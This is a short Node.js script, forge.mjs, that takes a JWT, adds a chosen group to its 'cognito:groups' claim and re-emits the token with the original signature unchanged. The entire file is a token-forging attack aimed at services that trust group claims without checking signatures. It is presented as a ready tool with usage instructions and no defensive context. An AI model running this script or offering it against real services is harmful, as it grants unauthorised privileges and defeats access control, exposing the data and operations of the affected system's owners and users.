// A token that says one group more than it did, with the signature that it had.
//   node forge.mjs <token> <group>
const [token, group] = process.argv.slice(2);
const [header, payload, signature] = token.split('.');
const claims = JSON.parse(Buffer.from(payload, 'base64url'));
claims['cognito:groups'] = [...(claims['cognito:groups'] ?? []), group];
console.log([header, Buffer.from(JSON.stringify(claims)).toString('base64url'), signature].join('.'));
